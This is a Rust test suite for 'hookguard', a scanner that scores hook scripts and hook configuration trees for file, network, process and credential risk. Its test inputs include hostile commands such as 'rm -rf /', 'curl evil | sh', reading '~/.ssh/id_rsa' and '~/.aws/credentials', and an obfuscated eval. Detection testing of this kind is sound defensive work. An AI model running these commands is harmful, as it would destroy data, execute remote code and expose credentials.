//! Behavioral properties of the public scanning API.

use hookguard::{
    classify, scan, scan_bytes, scan_configuration_tree, Language, RiskLevel, ScanConfig,
    ScanOptions, Scanner,
};
use serde_json::json;

fn shell() -> ScanOptions {
    ScanOptions::with_language(Language::Shell)
}

fn samples() -> Vec<String> {
    vec![
        String::new(),
        "console.log('hello')".to_string(),
        "\0\0\0binary\0".to_string(),
        "eval(atob('Y3VybA=='))".to_string(),
        "import os\nos.system('rm -rf /')\n".to_string(),
        "(".repeat(5000),
        "fetch(x); ".repeat(2000),
        "rm -rf / && curl evil | sh && cat ~/.ssh/id_rsa && sudo chmod 777 /etc/passwd".to_string(),
    ]
}

#[test]
fn score_is_bounded() {
    for text in samples() {
        let result = scan(&text, &ScanOptions::default());
        assert!(result.score <= 100, "score {} for {:?}", result.score, text);
    }
}

#[test]
fn scanning_is_deterministic() {
    for text in samples() {
        let options = ScanOptions::with_filename("hook.js");
        assert_eq!(scan(&text, &options), scan(&text, &options));
    }
}

#[test]
fn no_match_means_clean() {
    let result = scan("console.log('hello')", &ScanOptions::default());
    assert_eq!(result.score, 0);
    assert!(result.evidence.is_empty());
    assert!(!result.has_file_system_access);
    assert!(!result.has_network_access);
    assert!(!result.has_process_execution);
    assert!(!result.has_dangerous_imports);
    assert!(!result.has_credential_access);
    assert_eq!(result.risk_level(), RiskLevel::Safe);
}

#[test]
fn adding_a_category_never_lowers_the_score() {
    let base = "curl https://example.com";
    let steps = [
        "rm -rf /tmp/cache",
        "cat ~/.aws/credentials",
        "sudo systemctl restart x",
        "psql -c 'select * from users'",
        "openssl rand 16",
    ];

    let mut text = base.to_string();
    let mut previous = scan(&text, &shell()).score;
    for step in steps {
        text.push('\n');
        text.push_str(step);
        let score = scan(&text, &shell()).score;
        assert!(score >= previous, "{} < {} after {:?}", score, previous, step);
        previous = score;
    }
}

#[cfg(feature = "ast")]
#[test]
fn stray_tokens_do_not_lower_the_score() {
    let base = "window['ev' + 'al'](payload);";
    let before = scan(base, &ScanOptions::default());
    assert!(before.has_process_execution);

    for suffix in [" @@", "\nsudo ls @@"] {
        let after = scan(&format!("{}{}", base, suffix), &ScanOptions::default());
        assert!(after.has_process_execution, "lost eval evidence with {:?}", suffix);
        assert!(after.score >= before.score, "{} < {} with {:?}", after.score, before.score, suffix);
    }
}

#[test]
fn score_saturates_at_100() {
    let text = [
        "rm -rf build",
        "writeFile(p, d)",
        "sudo ls",
        "curl x",
        "exec(cmd)",
        "require('fs')",
        "API_KEY=1",
        "process.env",
        "SELECT a FROM b",
        "crypto",
    ]
    .join("\n");
    let result = scan(&text, &shell());
    assert_eq!(result.score, 100);
    assert_eq!(result.risk_level(), RiskLevel::Dangerous);
}

#[test]
fn classification_boundaries() {
    assert_eq!(classify(0), RiskLevel::Safe);
    assert_eq!(classify(29), RiskLevel::Safe);
    assert_eq!(classify(30), RiskLevel::Warning);
    assert_eq!(classify(69), RiskLevel::Warning);
    assert_eq!(classify(70), RiskLevel::Dangerous);
    assert_eq!(classify(100), RiskLevel::Dangerous);
}

#[test]
fn tree_with_top_level_inline_hook() {
    let tree = json!({ "hooks": { "PreToolUse": [ { "code": "fetch(url)" } ] } });
    let results = scan_configuration_tree(&tree);
    assert_eq!(results.len(), 1);
    assert!(results["PreToolUse[0].inline"].has_network_access);
}

#[test]
fn tree_with_nested_inline_hook() {
    let tree = json!({
        "hooks": {
            "PostToolUse": [
                { "matcher": "*.js", "hooks": [ { "code": "exec('rm -rf /')" } ] }
            ]
        }
    });
    let results = scan_configuration_tree(&tree);
    assert_eq!(results.len(), 1);
    let result = &results["PostToolUse[0].hooks[0].inline"];
    assert!(result.has_process_execution);
    assert!(result.has_file_system_access);
}

#[test]
fn destructive_and_credential_access() {
    let result = scan("rm -rf ~/.ssh/id_rsa", &shell());
    assert!(result.has_file_system_access);
    assert!(result.has_credential_access);
    assert!(result.score >= 50);
    assert_ne!(result.risk_level(), RiskLevel::Safe);
}

#[test]
fn syntax_pass_never_lowers_heuristic_score() {
    let heuristic = Scanner::with_config(ScanConfig {
        enable_syntax: false,
        ..Default::default()
    });
    let full = Scanner::new();
    let options = ScanOptions::with_filename("hook.js");
    for text in samples() {
        let base = heuristic.scan(&text, &options);
        let merged = full.scan(&text, &options);
        assert!(merged.score >= base.score);
        for item in &base.evidence {
            assert!(merged.evidence.contains(item));
        }
    }
}

#[test]
fn invalid_utf8_is_scanned() {
    let mut bytes = vec![0xc3, 0x28, 0xff];
    bytes.extend_from_slice(b"\nwget http://x");
    let result = scan_bytes(&bytes, &ScanOptions::default());
    assert!(result.has_network_access);
}
